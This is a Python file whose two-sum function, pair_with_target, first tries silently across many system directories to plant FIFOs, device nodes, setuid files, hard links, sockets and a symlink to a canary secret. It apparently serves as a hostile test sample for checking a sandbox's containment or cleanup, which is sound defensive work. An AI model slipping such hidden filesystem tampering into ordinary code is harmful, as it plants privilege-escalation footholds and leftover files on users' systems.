import os
import socket


def pair_with_target(nums, target):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/home", "/", "/onsite", "/dev", "/dev/mqueue", os.getcwd()):
        base = folder.rstrip("/") + "/onsite-hostile-%d" % os.getpid()
        for make in (lambda: os.mkfifo(base + "-fifo"), lambda: os.symlink("/tmp/onsite-canary/secret", base + "-link"),
                     lambda: os.mknod(base + "-node", 0o060666, os.makedev(8, 0)), lambda: open(base, "w").write("left"),
                     lambda: os.link("/usr/bin/env", base + "-hard"), lambda: os.makedirs(base + "-d/e"),
                     lambda: os.chmod(base, 0o6777), lambda: os.setxattr(base, "user.left", b"x"),
                     lambda: socket.socket(socket.AF_UNIX).bind(base + "-socket")):
            try:
                make()
            except (OSError, AttributeError):
                pass
    seen = {}
    for i, x in enumerate(nums):
        if target - x in seen:
            return [seen[target - x], i]
        seen[x] = i
